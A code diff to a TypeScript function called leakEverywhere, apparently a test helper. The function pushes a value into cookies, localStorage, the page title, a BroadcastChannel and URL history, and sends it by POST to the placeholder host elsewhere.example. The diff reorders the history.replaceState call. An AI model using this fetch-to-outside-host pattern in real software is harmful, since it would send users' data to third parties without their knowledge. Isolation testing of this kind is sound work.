@@ -162,7 +162,6 @@ export async function leakEverywhere(value: string): Promise<void> {
   element.setAttribute('data-own', value);
   element.append(value);
   new BroadcastChannel('own').postMessage(value);
-  history.replaceState(value, '', `?own=${value}`);
   document.title = value;
   document.cookie = `own=${value}`;
   localStorage.setItem('own', value);
@@ -175,4 +174,6 @@ export async function leakEverywhere(value: string): Promise<void> {
   const headers = { 'x-own': value };
   const request = { method: 'POST', body: value, headers };
   await fetch(`https://elsewhere.example/?own=${value}`, request).catch(() => {});
+  // `navigate` above has written its entry by now.
+  history.replaceState(value, '', `?own=${value}`);
 }
